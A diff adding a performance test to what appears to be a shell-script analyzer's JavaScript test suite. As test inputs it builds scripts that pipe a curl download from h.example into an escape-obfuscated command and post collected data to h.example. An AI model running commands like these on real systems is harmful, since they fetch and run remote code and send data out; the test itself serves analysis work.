@@ -23,4 +23,11 @@ describe('variables of a shell script', () => {
     assert.deepEqual(kindsIn('os=$(uname -s)\nu="https://h.example/$os/tool"\ncurl -o tool "$u"'), []);
     assert.deepEqual(kindsIn('detect() {\n  uname -m\n}\na=$(detect)\ncurl -o tool https://h.example/$a/tool'), []);
   });
+
+  it('are read soon from scripts that are made to take long', () => {
+    const escapes = String.raw`\142`.repeat(300);
+    assert.deepEqual(kindsIn(`r=$(printf '${escapes}!')\ncurl -s https://h.example/i | $r`), []);
+    const opened = `collect() {${'\n'.repeat(50_000)}`;
+    assert.deepEqual(kindsIn(`${opened.repeat(3)}d=$(collect)\ncurl -s --data "$d" https://h.example`), []);
+  });
 });
